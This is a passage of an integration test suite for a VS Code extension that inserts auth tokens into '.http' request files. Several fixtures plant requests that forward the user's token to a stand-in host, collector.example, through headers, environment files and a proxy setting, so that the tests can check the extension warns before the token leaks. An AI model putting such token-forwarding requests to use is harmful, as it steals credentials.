// REST files in the real extension host: Insert Authorization Header (exact text, one undo
// step, variable style, the git warning), Update Tokens in File, CodeLens, hover, diagnostics.
import * as assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import * as vscode from 'vscode';
import type { RiggedEmulator } from '../emulator/rig';
import type { Session } from '../../src/core/sessions/types';
import { decodeClaims } from '../../src/core/sessions/token';
import type { TestApi } from './testApi';
import { gitStatus, TRACKED_WARNING_KEY } from '../../src/features/shared/gitStatus';
import type { TrackedFileAnswer } from '../../src/core/models/prompter';
import { logIn, ScriptedPrompter, settings, until, useEmulatorSuite, ourLenses } from './loginHelpers';

/** A token shaped like `base`'s (same sub, iss, instanceId) that expired `minutesAgo` minutes ago. Not signed: it only has to be read. */
function staleTokenLike(base: string, minutesAgo: number): string {
	const claims = { ...decodeClaims(base), exp: Math.floor(Date.now() / 1000) - minutesAgo * 60 - 5, jti: 'stale' };
	const part = (o: unknown) => Buffer.from(JSON.stringify(o)).toString('base64url');
	return `${part({ alg: 'HS256', typ: 'JWT' })}.${part(claims)}.c3RhbGU`;
}

/** Another subject's token (no logged-in account owns it). */
const FOREIGN = `${Buffer.from('{"alg":"HS256","typ":"JWT"}').toString('base64url')}.${Buffer.from(JSON.stringify({ sub: 'someone-else', exp: 4102444800 })).toString('base64url')}.Zm9yZWlnbg`;

let counter = 0;
/** Opens a new .http file in `folder` (default: the workspace folder, which is outside git). */
async function openHttp(content: string, folder = vscode.workspace.workspaceFolders?.[0]?.uri.fsPath ?? fs.mkdtempSync(path.join(os.tmpdir(), 'http-'))): Promise<vscode.TextEditor> {
	const file = path.join(folder, `requests-${process.pid}-${++counter}.http`);
	fs.writeFileSync(file, content);
	const document = await vscode.workspace.openTextDocument(vscode.Uri.file(file));
	return vscode.window.showTextDocument(document);
}

/**
 * Puts the cursors at `needles` in `editor`, shown and active, as the commands read them. The main
 * thread answers each selection it applies with an event; one still on its way from an earlier
 * selection could move the cursors back after this, so a round trip to the main thread (setContext)
 * lets every answer in first, and the cursors are checked after it.
 */
async function cursorsAt(editor: vscode.TextEditor, ...needles: string[]): Promise<void> {
	const shown = await vscode.window.showTextDocument(editor.document, { preserveFocus: false, ...(editor.viewColumn !== undefined && { viewColumn: editor.viewColumn }) });
	const text = shown.document.getText();
	const wanted = needles.map((needle) => {
		const offset = text.indexOf(needle);
		assert.ok(offset >= 0, `"${needle}" is in the file`);
		const position = shown.document.positionAt(offset + 1);
		return new vscode.Selection(position, position);
	});
	shown.selections = wanted;
	await vscode.commands.executeCommand('setContext', 'telematicsAuthTest.cursors', needles.length);
	assert.equal(vscode.window.activeTextEditor?.document, shown.document, 'the file is the active editor');
	assert.deepEqual(vscode.window.activeTextEditor!.selections.map((s) => shown.document.offsetAt(s.active)), wanted.map((s) => shown.document.offsetAt(s.active)), 'the cursors stayed where they were put');
}

/** A stale token from some earlier run: a JWT, so it is ours to replace. */
const STALE_VALUE = `${Buffer.from('{"alg":"HS256"}').toString('base64url')}.${Buffer.from('{"sub":"stale"}').toString('base64url')}.c3RhbGU`;

const TWO_REQUESTS = [
	'@host = https://api.example.com',
	'',
	'### first',
	'# @name trips',
	'GET {{host}}/v1/trips',
	'Accept: application/json',
	'',
	'### second',
	'POST {{host}}/v1/events',
	`authorization: bearer ${STALE_VALUE}`,
	'Content-Type: application/json',
	'',
	'{"Authorization": "Bearer keep-me"}',
	'',
].join('\n');

describe('REST files (real VS Code)', function () {
	let api: TestApi;
	let emu: RiggedEmulator;
	let admin: Session;
	let token: string;

	useEmulatorSuite({ rateLimit: 'default', logOutBetweenTests: false }, (started) => ({ api, emu } = started));

	before(async () => {
		admin = await logIn(api, emu, 'admin');
		token = api.services.store.get(admin.account.id)!.tokens!.accessToken;
	});

	after(async () => {
		await vscode.commands.executeCommand('workbench.action.closeAllEditors');
	});

	afterEach(async () => {
		await settings().update('insertStyle', undefined, vscode.ConfigurationTarget.Global);
		await settings().update('codeLens.enabled', undefined, vscode.ConfigurationTarget.Global);
		await api.services.context.workspaceState.update(TRACKED_WARNING_KEY, undefined);
		await vscode.workspace.saveAll(false);
		await vscode.commands.executeCommand('workbench.action.closeAllEditors');
	});

	it('replaces a stale header in the request under the cursor, leaving the other request and the body alone', async () => {
		const editor = await openHttp(TWO_REQUESTS);
		await cursorsAt(editor, '{"Authorization"');
		await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
		assert.equal(editor.document.getText(), TWO_REQUESTS.replace(`authorization: bearer ${STALE_VALUE}`, `Authorization: Bearer ${token}`));
	});

	it('inserts into every request under a cursor in one undo step', async () => {
		const editor = await openHttp(TWO_REQUESTS);
		await cursorsAt(editor, 'GET {{host}}', 'Accept:', 'POST {{host}}');
		await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
		const expected = TWO_REQUESTS
			.replace('GET {{host}}/v1/trips\n', `GET {{host}}/v1/trips\nAuthorization: Bearer ${token}\n`)
			.replace(`authorization: bearer ${STALE_VALUE}`, `Authorization: Bearer ${token}`);
		assert.equal(editor.document.getText(), expected);
		assert.equal(expected.split(`Bearer ${token}`).length - 1, 2, 'each request has exactly one header');
		await vscode.commands.executeCommand('undo');
		assert.equal(editor.document.getText(), TWO_REQUESTS);
	});

	it('variable style keeps the token in @telematicsToken and references it', async () => {
		await settings().update('insertStyle', 'variable', vscode.ConfigurationTarget.Global);
		const editor = await openHttp(TWO_REQUESTS);
		await cursorsAt(editor, 'GET {{host}}');
		await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
		const expected = TWO_REQUESTS
			.replace('@host = https://api.example.com\n', `@host = https://api.example.com\n@telematicsToken = ${token}\n`)
			.replace('GET {{host}}/v1/trips\n', 'GET {{host}}/v1/trips\nAuthorization: Bearer {{telematicsToken}}\n');
		assert.equal(editor.document.getText(), expected);
	});

	describe('another kind of Authorization', () => {
		const BASIC = '### oauth client\nPOST https://auth.example.com/token\nAuthorization: Basic Y2xpZW50OnNlY3JldA==\n\n###\nGET https://api.example.com/v1\n';
		function answering(replace: boolean): ScriptedPrompter {
			const prompter = new ScriptedPrompter([]);
			prompter.replaceForeign = replace;
			api.setPrompter(prompter);
			return prompter;
		}
		afterEach(() => api.setPrompter(undefined));

		it('asks before replacing Basic; "Leave Them Alone" changes only the other requests', async () => {
			const editor = await openHttp(BASIC);
			await cursorsAt(editor, 'POST', 'GET');
			const prompter = answering(false);
			await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
			assert.deepEqual(prompter.foreignAsked, [['Basic']]);
			assert.equal(editor.document.getText(), BASIC.replace('GET https://api.example.com/v1\n', `GET https://api.example.com/v1\nAuthorization: Bearer ${token}\n`));
		});

		it('"Replace" puts the token in its place', async () => {
			const editor = await openHttp(BASIC);
			await cursorsAt(editor, 'POST');
			answering(true);
			await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
			assert.equal(editor.document.getText(), BASIC.replace('Basic Y2xpZW50OnNlY3JldA==', `Bearer ${token}`));
		});

		it('Update Tokens in File never touches Basic, Digest or another tool\'s variable', async () => {
			const other = `${BASIC}\n###\nGET https://x\nAuthorization: Digest username="a"\n\n###\nGET https://y\nAuthorization: Bearer {{$aadToken}}\n`;
			const editor = await openHttp(other);
			await vscode.commands.executeCommand('telematicsAuth.updateTokensInFile');
			assert.equal(editor.document.getText(), other);
		});
	});

	describe('a file git may commit', () => {
		/** A new git repository; `tracked`: the .http file opened in it is added to the index. */
		async function openInRepo(tracked: boolean): Promise<vscode.TextEditor> {
			const repo = fs.mkdtempSync(path.join(os.tmpdir(), 'http-repo-'));
			execFileSync('git', ['init', '-q'], { cwd: repo });
			const editor = await openHttp(TWO_REQUESTS, repo);
			if (tracked) execFileSync('git', ['add', path.basename(editor.document.uri.fsPath)], { cwd: repo });
			return editor;
		}
		function answering(...answers: TrackedFileAnswer[]): ScriptedPrompter {
			const prompter = new ScriptedPrompter([]);
			prompter.trackedAnswers.push(...answers);
			api.setPrompter(prompter);
			return prompter;
		}
		const insert = () => vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
		afterEach(() => api.setPrompter(undefined));

		it('asks first; Cancel writes nothing', async () => {
			const editor = await openInRepo(true);
			await cursorsAt(editor, 'GET {{host}}');
			const prompter = answering('cancel');
			assert.equal(await insert(), undefined);
			assert.ok(['tracked:true', 'notIgnored:true'].includes(prompter.trackedAsked.join()), prompter.trackedAsked.join());
			assert.equal(editor.document.getText(), TWO_REQUESTS);
		});

		it('"Use {{variable}} Only" writes the reference and no token', async () => {
			const editor = await openInRepo(false);
			await cursorsAt(editor, 'GET {{host}}');
			const prompter = answering('reference');
			await insert();
			assert.deepEqual(prompter.trackedAsked, ['notIgnored:true']);
			const text = editor.document.getText();
			assert.equal(text, TWO_REQUESTS.replace('GET {{host}}/v1/trips\n', 'GET {{host}}/v1/trips\nAuthorization: Bearer {{telematicsToken}}\n'));
			assert.ok(!text.includes(token));
		});

		it('"Continue" writes the token and is not asked again in this workspace', async () => {
			const editor = await openInRepo(true);
			await cursorsAt(editor, 'GET {{host}}');
			const prompter = answering('continue');
			await insert();
			assert.ok(editor.document.getText().includes(`GET {{host}}/v1/trips\nAuthorization: Bearer ${token}\n`));
			await cursorsAt(editor, 'POST {{host}}');
			await insert();
			assert.equal(prompter.trackedAsked.length, 1);
			assert.equal(api.services.context.workspaceState.get(TRACKED_WARNING_KEY), true);
		});

		it('a file outside git is written without a question', async () => {
			const editor = await openHttp(TWO_REQUESTS, fs.mkdtempSync(path.join(os.tmpdir(), 'http-nogit-')));
			await cursorsAt(editor, 'GET {{host}}');
			const prompter = answering();
			await insert();
			assert.deepEqual(prompter.trackedAsked, []);
			assert.ok(editor.document.getText().includes(`Authorization: Bearer ${token}`));
		});

		it('tells tracked, committable, ignored and outside files apart with git', async () => {
			const repo = fs.mkdtempSync(path.join(os.tmpdir(), 'http-git-'));
			const outside = fs.mkdtempSync(path.join(os.tmpdir(), 'http-nogit-'));
			execFileSync('git', ['init', '-q'], { cwd: repo });
			for (const name of ['tracked.http', 'new.http', 'secret.http']) fs.writeFileSync(path.join(repo, name), 'GET https://x\n');
			fs.writeFileSync(path.join(repo, '.gitignore'), 'secret.http\n');
			fs.writeFileSync(path.join(outside, 'plain.http'), 'GET https://x\n');
			execFileSync('git', ['add', 'tracked.http'], { cwd: repo });
			const statusOf = async (file: string) => gitStatus(vscode.Uri.file(file));
			// git itself tells tracked from untracked; the git extension's API (when it has the
			// repository open) only tells ignored from not: both mean "may be committed".
			assert.ok(['tracked', 'notIgnored'].includes(await statusOf(path.join(repo, 'tracked.http'))));
			assert.equal(await statusOf(path.join(repo, 'new.http')), 'notIgnored');
			assert.equal(await statusOf(path.join(repo, 'secret.http')), 'ignored');
			assert.equal(await statusOf(path.join(outside, 'plain.http')), 'none');
		});

		it('files of other file systems (Live Share, SSH, SFTP) may be in a repository: asked about, never skipped', async () => {
			for (const uri of ['vsls:/project/api.http', 'ssh://host/home/me/api.http', 'sftp://host/srv/api.http']) {
				assert.equal(await gitStatus(vscode.Uri.parse(uri)), 'unknown', uri);
			}
			assert.equal(await gitStatus(vscode.Uri.parse('untitled:Untitled-1')), 'none');
			assert.equal(await gitStatus(vscode.Uri.parse('vscode-vfs://github/o/r/api.http')), 'remote');
		});
	});

	describe('a token goes only to its service', () => {
		let prompter: ScriptedPrompter;
		function answering(go: boolean): void {
			prompter = new ScriptedPrompter([], 'user', go);
			api.setPrompter(prompter);
		}
		afterEach(() => api.setPrompter(undefined));

		/** Inserts at `cursor` in a new file holding `text`, answering No: asked about collector.example once, nothing written. */
		async function declinedInsert(text: string, cursor: string): Promise<vscode.TextEditor> {
			const editor = await openHttp(text);
			await cursorsAt(editor, cursor);
			answering(false);
			await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
			assert.equal(editor.document.getText(), text);
			assert.deepEqual(prompter.confirmations.map((c) => c.replace(/ not to the service of .*/s, '')), ['A request in this file sends the token to collector.example,']);
			return editor;
		}

		it('variable style: asks when another request of the file reads the variable and goes elsewhere; declined, nothing is written', async () => {
			await settings().update('insertStyle', 'variable', vscode.ConfigurationTarget.Global);
			const editor = await declinedInsert(`### ours\nGET ${emu.url}/v1/Me\n\n### planted\nPOST https://collector.example/c\nX-Copy: {{telematicsToken}}\n`, 'GET');

			answering(true);
			await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
			assert.ok(editor.document.getText().includes(`@telematicsToken = ${token}`), 'told to go on: written');
		});

		it('warns on each request that would send the token elsewhere, the exposed one included, and on no other', async () => {
			const text = [
				`@telematicsToken = ${token}`, '',
				'### ours', `GET ${emu.url}/v1/Me`, 'Authorization: Bearer {{telematicsToken}}', '',
				'### planted', 'POST https://collector.example/c', 'X-Copy: {{telematicsToken}}', '',
				'### through the environment', 'GET https://relay.example/r', 'Authorization: Bearer {{$processEnv TELEMATICS_TOKEN}}', '',
			].join('\n');
			const editor = await openHttp(text);
			const uri = editor.document.uri;
			const warnings = await until('one warning', () => vscode.languages.getDiagnostics(uri), { accept: (d) => d.length === 1, timeoutMs: 5000 });
			assert.deepEqual(warnings.map((d) => [d.range.start.line, d.code, d.severity]), [[7, 'tokenToAnotherSite', vscode.DiagnosticSeverity.Warning]]);
			assert.match(warnings[0]!.message, new RegExp(`^This request sends the token of ${admin.account.label} to collector\\.example, not to its service \\(127\\.0\\.0\\.1:\\d+\\)\\.`));

			await settings().update('exposeToken', 'environment', vscode.ConfigurationTarget.Global);
			try {
				const both = await until('the exposed token\'s request too', () => vscode.languages.getDiagnostics(uri), { accept: (d) => d.length === 2, timeoutMs: 5000 });
				assert.deepEqual(both.map((d) => d.range.start.line), [7, 11]);
			} finally {
				await settings().update('exposeToken', undefined, vscode.ConfigurationTarget.Global);
			}
			await until('back to one once nothing is exposed', () => vscode.languages.getDiagnostics(uri), { accept: (d) => d.length === 1, timeoutMs: 5000 });
		});

		it('the account\'s platform host on another site (telematicsAuth.platformHosts) is its service: inserted with no question, not warned; another host of that site is', async () => {
			await settings().update('platformHosts', { api: 'https://api.partner-cloud.example' }, vscode.ConfigurationTarget.Global);
			try {
				await settings().update('insertStyle', 'processEnv', vscode.ConfigurationTarget.Global);
				const alone = 'GET https://api.partner-cloud.example/v1/trips\n';
				const inserted = await openHttp(alone);
				await cursorsAt(inserted, 'GET');
				answering(false);
				await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
				assert.equal(inserted.document.getText(), `${alone}Authorization: Bearer {{$processEnv TELEMATICS_TOKEN}}\n`);
				assert.deepEqual(prompter.confirmations, []);

				const text = [
					`@telematicsToken = ${token}`, '',
					'### the api host', 'GET https://api.partner-cloud.example/v1/trips', 'Authorization: Bearer {{telematicsToken}}', '',
					'### another host of its site', 'GET https://collector.partner-cloud.example/c', 'X-Copy: {{telematicsToken}}', '',
				].join('\n');
				const editor = await openHttp(text);
				const warnings = await until('one warning', () => vscode.languages.getDiagnostics(editor.document.uri), { accept: (d) => d.length === 1, timeoutMs: 5000 });
				assert.deepEqual(warnings.map((d) => d.range.start.line), [7]);
				assert.match(warnings[0]!.message, /to collector\.partner-cloud\.example, not to its service/);
			} finally {
				await settings().update('platformHosts', undefined, vscode.ConfigurationTarget.Global);
			}
		});

		it('environment style: the exposed token is the active account\'s, so the same question; its own service is not asked about', async () => {
			await settings().update('insertStyle', 'processEnv', vscode.ConfigurationTarget.Global);
			const text = `### ours\nGET ${emu.url}/v1/Me\n\n### elsewhere\nGET https://collector.example/c\n`;
			const editor = await declinedInsert(text, 'GET https://collector');

			await cursorsAt(editor, `GET ${emu.url}`);
			await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
			assert.equal(editor.document.getText(), text.replace(`GET ${emu.url}/v1/Me\n`, `GET ${emu.url}/v1/Me\nAuthorization: Bearer {{$processEnv TELEMATICS_TOKEN}}\n`),
				`asked: ${JSON.stringify(prompter.confirmations)}; told: ${JSON.stringify(api.messages().slice(-2).map((m) => m.text))}`);
			assert.equal(prompter.confirmations.length, 1, 'not asked about its own service');
		});

		it('several accounts: each request gets the named reference of the account it is for, picked by name; one for another site is asked about too (issue 30)', async () => {
			await settings().update('insertStyle', 'processEnv', vscode.ConfigurationTarget.Global);
			const user = await logIn(api, emu, 'user');
			try {
				const text = `### trips\nGET ${emu.url}/v1/Me\n\n### stats\nGET ${emu.url}/v1/Me?stats\n\n### elsewhere\nGET https://collector.example/c\n`;
				const editor = await openHttp(text);
				await cursorsAt(editor, '### trips', '### stats');
				answering(true);
				// Both accounts serve the emulator (one loopback site): the person picks, by name, for each request.
				prompter.accountPicks.push('user', 'admin');
				await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
				assert.equal(editor.document.getText(), text
					.replace(`GET ${emu.url}/v1/Me\n`, `GET ${emu.url}/v1/Me\nAuthorization: Bearer {{$processEnv TELEMATICS_TOKEN_USER}}\n`)
					.replace(`GET ${emu.url}/v1/Me?stats\n`, `GET ${emu.url}/v1/Me?stats\nAuthorization: Bearer {{$processEnv TELEMATICS_TOKEN_ADMIN}}\n`));
				assert.deepEqual(prompter.accountsOffered.map((o) => [o.title, [...o.names].sort()]), [
					[`line 2: ${emu.url}/v1/Me`, ['admin', 'user']],
					[`line 5: ${emu.url}/v1/Me?stats`, ['admin', 'user']],
				]);
				assert.deepEqual(prompter.confirmations, [], 'each goes to its account\'s own service: nothing to ask');

				// Inserting again for the other account replaces the named reference: one header per request.
				await cursorsAt(editor, '### trips');
				prompter.accountPicks.push('admin');
				await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
				assert.equal((editor.document.getText().match(/TELEMATICS_TOKEN_ADMIN/g) ?? []).length, 2);
				assert.ok(!editor.document.getText().includes('TELEMATICS_TOKEN_USER'));

				// A request no account serves: picked from all, then the host question; declined, nothing written.
				const before = editor.document.getText();
				await cursorsAt(editor, 'GET https://collector');
				answering(false);
				prompter.accountPicks.push('user');
				await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
				assert.equal(editor.document.getText(), before);
				assert.equal(prompter.confirmations.length, 1);
				assert.match(prompter.confirmations[0]!, /^A request in this file sends the token to collector\.example, not to the service of /);

				// Escape at the pick: nothing written.
				answering(true);
				await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
				assert.equal(editor.document.getText(), before);

				// The header style: each request gets its own account's token itself, in one edit.
				await settings().update('insertStyle', 'header', vscode.ConfigurationTarget.Global);
				const headers = `### a\nGET ${emu.url}/v1/Me\n\n### b\nGET ${emu.url}/v1/Me?b\n`;
				const second = await openHttp(headers);
				await cursorsAt(second, '### a', '### b');
				answering(true);
				prompter.accountPicks.push('admin', 'user');
				await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
				const tokenOf = (id: string) => api.services.store.get(id)!.tokens!.accessToken;
				assert.equal(second.document.getText(), headers
					.replace(`GET ${emu.url}/v1/Me\n`, `GET ${emu.url}/v1/Me\nAuthorization: Bearer ${tokenOf(admin.account.id)}\n`)
					.replace(`GET ${emu.url}/v1/Me?b\n`, `GET ${emu.url}/v1/Me?b\nAuthorization: Bearer ${tokenOf(user.account.id)}\n`));
				await vscode.commands.executeCommand('undo');
				assert.equal(second.document.getText(), headers, 'one undo step');
			} finally {
				await api.services.store.remove(user.account.id);
			}
		});

		const declinedFiles: Array<[string, () => string]> = [
			['another request reads the header of the named request under the cursor', () => `### ours\n# @name me\nGET ${emu.url}/v1/Me\n\n### planted\nGET https://collector.example/?h={{me.request.headers.Authorization}}\n`],
			['the request\'s URL ends in a variable the file does not define', () => 'GET https://collector.example/c?session={{fromTheEnvironment}}\n'],
		];
		for (const [when, content] of declinedFiles) {
			it(`asks about collector.example when ${when}; declined, nothing is written`, async () => {
				await declinedInsert(content(), 'GET');
			});
		}

		describe('hosts through the environments (issue 30)', () => {
			let folder: string;
			beforeEach(() => {
				folder = path.join(vscode.workspace.workspaceFolders![0]!.uri.fsPath, `envs-${process.pid}-${++counter}`);
				fs.mkdirSync(folder);
			});
			afterEach(async () => {
				await vscode.workspace.getConfiguration('rest-client').update('environmentVariables', undefined, vscode.ConfigurationTarget.Global);
				await vscode.commands.executeCommand('workbench.action.closeAllEditors');
				// Retried: on a busy machine a client still settling on the closed editors can add a file while the folder goes (ENOTEMPTY, seen once).
				fs.rmSync(folder, { recursive: true, force: true, maxRetries: 5 });
			});

			const REQUEST = 'GET {{baseUrl}}/v1/Me\n';
			const sources: Array<[string, (baseUrl: string) => Promise<void>, string]> = [
				['http-client.env.json', async (baseUrl) => fs.writeFileSync(path.join(folder, 'http-client.env.json'), JSON.stringify({ dev: { baseUrl: emu.url }, prod: { baseUrl } })), 'prod'],
				['rest-client.environmentVariables', (baseUrl) => Promise.resolve(vscode.workspace.getConfiguration('rest-client').update('environmentVariables', { $shared: {}, prod: { baseUrl } }, vscode.ConfigurationTarget.Global)), 'prod'],
				['a prod.env beside the file', async (baseUrl) => fs.writeFileSync(path.join(folder, 'prod.env'), `baseUrl=${baseUrl}\n`), 'prod.env'],
			];
			for (const [where, plant, environment] of sources) {
				it(`Insert names the host ${where} gives {{baseUrl}}, and the warning stands; the benign twin asks nothing`, async () => {
					await plant('https://collector.example');
					const editor = await openHttp(REQUEST, folder);
					await cursorsAt(editor, 'GET');
					answering(false);
					await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
					assert.equal(editor.document.getText(), REQUEST, 'declined: nothing written');
					assert.match(prompter.confirmations[0] ?? '', /^A request in this file sends the token to collector\.example, not to the service/);
					assert.ok(prompter.confirmations[0]!.includes(`In the environment ${environment}, it goes to collector.example.`), prompter.confirmations[0]);

					answering(true);
					await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
					await until('the warning on the request', () => vscode.languages.getDiagnostics(editor.document.uri)
						.some((d) => d.code === 'tokenToAnotherSite' && d.range.start.line === 0 && /sends the token of .* to collector\.example/.test(d.message) && d.message.includes(`In the environment ${environment}, it goes to collector.example.`)), 5000);
					await vscode.commands.executeCommand('workbench.action.closeAllEditors');

					await plant(emu.url);
					const twin = await openHttp(REQUEST, folder);
					await cursorsAt(twin, 'GET');
					answering(false);
					await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
					assert.deepEqual(prompter.confirmations, [], 'every environment names the service: no question');
					assert.ok(twin.document.getText().includes(`Authorization: Bearer ${token}`));
				});
			}

			/** Insert on REQUEST in the folder asks, saying the file does not say where {{baseUrl}} goes. */
			async function assertAskedUnsaid(): Promise<void> {
				const editor = await openHttp(REQUEST, folder);
				await cursorsAt(editor, 'GET');
				answering(false);
				await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
				assert.match(prompter.confirmations[0] ?? '', /does not say where a request that gets the token/);
			}

			it('an env/ folder that links out of the workspace folder is not read: {{baseUrl}} stays unsaid, and asked', async () => {
				const root = vscode.workspace.workspaceFolders![0]!.uri.fsPath;
				const outside = fs.mkdtempSync(path.join(os.tmpdir(), 'outside-env-'));
				fs.writeFileSync(path.join(outside, '.env'), `baseUrl=${emu.url}\n`);
				fs.symlinkSync(outside, path.join(root, 'env'));
				try {
					await assertAskedUnsaid();
				} finally {
					fs.rmSync(path.join(root, 'env'), { force: true });
					fs.rmSync(outside, { recursive: true, force: true });
				}
			});

			const elsewhere: Array<[string, string, string]> = [
				['an httpYac JavaScript config (never run)', '.httpyac.js', 'module.exports = { environments: { dev: { baseUrl: "https://collector.example" } } };'],
				['an httpyac section in package.json', 'package.json', JSON.stringify({ name: 'x', httpyac: { environments: { dev: { baseUrl: 'https://collector.example' } } } })],
				['an envDirName in .httpyac.json (dotenv files elsewhere)', '.httpyac.json', JSON.stringify({ envDirName: '../elsewhere' })],
			];
			for (const [what, name, content] of elsewhere) {
				it(`${what} leaves {{baseUrl}} unsaid: asked, quoting the request`, async () => {
					fs.writeFileSync(path.join(folder, 'http-client.env.json'), JSON.stringify({ dev: { baseUrl: emu.url } }));
					const root = vscode.workspace.workspaceFolders![0]!.uri.fsPath;
					fs.writeFileSync(path.join(root, name), content);
					try {
						await assertAskedUnsaid();
					} finally {
						fs.rmSync(path.join(root, name), { force: true });
					}
				});
			}
		});

		describe('client settings the workspace sets (issue 41)', () => {
			const text = () => `GET ${emu.url}/v1/Me\n`;
			async function insertAsks(): Promise<boolean> {
				const editor = await openHttp(text());
				await cursorsAt(editor, 'GET');
				answering(false);
				await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
				await vscode.commands.executeCommand('workbench.action.closeAllEditors');
				return (prompter.confirmations[0] ?? '').includes('does not say where a request that gets the token');
			}

			it('rest-client.defaultHeaders set by the workspace (a header on every request): asked; without it, not', async () => {
				assert.equal(await insertAsks(), false, 'the twin: a request to the service asks nothing');
				prompter.confirmations.length = 0;
				// VS Code leaves an empty .vscode/settings.json behind; the folder's other tests expect none.
				const file = path.join(vscode.workspace.workspaceFolders![0]!.uri.fsPath, '.vscode', 'settings.json');
				const existed = fs.existsSync(file);
				await vscode.workspace.getConfiguration('rest-client').update('defaultHeaders', { 'X-Who': '{{$processEnv TELEMATICS_TOKEN}}' }, vscode.ConfigurationTarget.Workspace);
				try {
					assert.equal(await insertAsks(), true);
				} finally {
					await vscode.workspace.getConfiguration('rest-client').update('defaultHeaders', undefined, vscode.ConfigurationTarget.Workspace);
					if (!existed) fs.rmSync(file, { force: true });
				}
			});

			it('an untitled document: a request option in rest-client.environmentVariables (certificate checks off) is asked about as in a file; without it, not', async () => {
				const insertAsksUntitled = async (): Promise<boolean> => {
					const document = await vscode.workspace.openTextDocument({ language: 'http', content: text() });
					const editor = await vscode.window.showTextDocument(document);
					await cursorsAt(editor, 'GET');
					answering(false);
					await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
					await vscode.commands.executeCommand('workbench.action.revertAndCloseActiveEditor');
					return (prompter.confirmations[0] ?? '').includes('does not say where a request that gets the token');
				};
				assert.equal(await insertAsksUntitled(), false, 'the twin: a request to the service asks nothing');
				await vscode.workspace.getConfiguration('rest-client').update('environmentVariables', { $shared: { request_rejectUnauthorized: false } }, vscode.ConfigurationTarget.Global);
				try {
					assert.equal(await insertAsksUntitled(), true);
				} finally {
					await vscode.workspace.getConfiguration('rest-client').update('environmentVariables', undefined, vscode.ConfigurationTarget.Global);
				}
			});

			it('an httpYac setting in the workspace\'s .vscode/settings.json (a proxy, say): asked', async () => {
				const file = path.join(vscode.workspace.workspaceFolders![0]!.uri.fsPath, '.vscode', 'settings.json');
				const before = fs.existsSync(file) ? fs.readFileSync(file, 'utf8') : undefined;
				fs.mkdirSync(path.dirname(file), { recursive: true });
				const json = before === undefined ? {} : JSON.parse(before) as Record<string, unknown>;
				fs.writeFileSync(file, JSON.stringify({ ...json, 'httpyac.proxy': 'http://collector.example:3128' }, null, 2));
				try {
					assert.equal(await insertAsks(), true);
				} finally {
					if (before === undefined) fs.rmSync(file, { force: true });
					else fs.writeFileSync(file, before);
				}
			});
		});

		it('Update Tokens in File asks before a stale token in a variable that a request elsewhere reads is replaced', async () => {
			const stale = staleTokenLike(token, 5);
			const text = `@telematicsToken = ${stale}\n\n###\nGET ${emu.url}/v1/Me\nAuthorization: Bearer {{telematicsToken}}\n\n###\nGET https://collector.example/c\nAuthorization: Bearer {{telematicsToken}}\n`;
			const editor = await openHttp(text);
			answering(false);
			assert.equal(await vscode.commands.executeCommand('telematicsAuth.updateTokensInFile'), undefined);
			assert.equal(editor.document.getText(), text);
			assert.match(prompter.confirmations[0] ?? '', /sends the token to collector\.example/);

			answering(true);
			await vscode.commands.executeCommand('telematicsAuth.updateTokensInFile');
			assert.equal(editor.document.getText(), text.replace(stale, token));
		});
	});

	describe('tokens already in the file', () => {
		let stale: string;
		let file: string;
		before(() => {
			stale = staleTokenLike(token, 12);
			file = [
				`@telematicsToken = ${stale}`,
				'',
				'###',
				`GET ${emu.url}/v1/trips`,
				`Authorization: Bearer ${stale}`,
				'',
				'###',
				`GET ${emu.url}/v1/me`,
				`Authorization: Bearer ${token}`,
				'',
				'###',
				'GET https://api.example.com/v1/other',
				`Authorization: Bearer ${FOREIGN}`,
				'',
			].join('\n');
		});

		it('Update Tokens in File replaces the account\'s stale tokens only', async () => {
			const editor = await openHttp(file);
			const outcome = await vscode.commands.executeCommand<{ updated: number; found: number }>('telematicsAuth.updateTokensInFile');
			assert.deepEqual(outcome, { updated: 2, found: 4 });
			assert.equal(editor.document.getText(), file.split(stale).join(token));
		});

		it('CodeLens says whose token it is, when it expires, and offers Update', async () => {
			const editor = await openHttp(file);
			const label = admin.account.label;
			const lenses = ourLenses(await vscode.commands.executeCommand<vscode.CodeLens[]>('vscode.executeCodeLensProvider', editor.document.uri));
			const titles = lenses.map((l) => `${l.range.start.line}: ${l.command?.title}`);
			assert.deepEqual(titles.map((t) => t.replace(/(\d{4}-\d\d-\d\d )?\d\d:\d\d \(in [^)]+\)/, 'HH:MM (in …)')), [
				`0: $(warning) ${label} · expired 12 min ago`,
				'0: $(sync) Update',
				`4: $(warning) ${label} · expired 12 min ago`,
				'4: $(sync) Update',
				`8: $(account) ${label} · expires HH:MM (in …)`,
				'12: $(question) not a logged-in account · expires HH:MM (in …)',
			]);
			assert.equal(lenses[1]!.command?.command, 'telematicsAuth.updateTokensInFile');
		});

		it('no CodeLens when the setting is off', async () => {
			await settings().update('codeLens.enabled', false, vscode.ConfigurationTarget.Global);
			const editor = await openHttp(file);
			const lenses = ourLenses(await vscode.commands.executeCommand<vscode.CodeLens[]>('vscode.executeCodeLensProvider', editor.document.uri));
			assert.deepEqual(lenses, []);
		});

		it('hover shows the decoded claims, the expiry and the account', async () => {
			const editor = await openHttp(file);
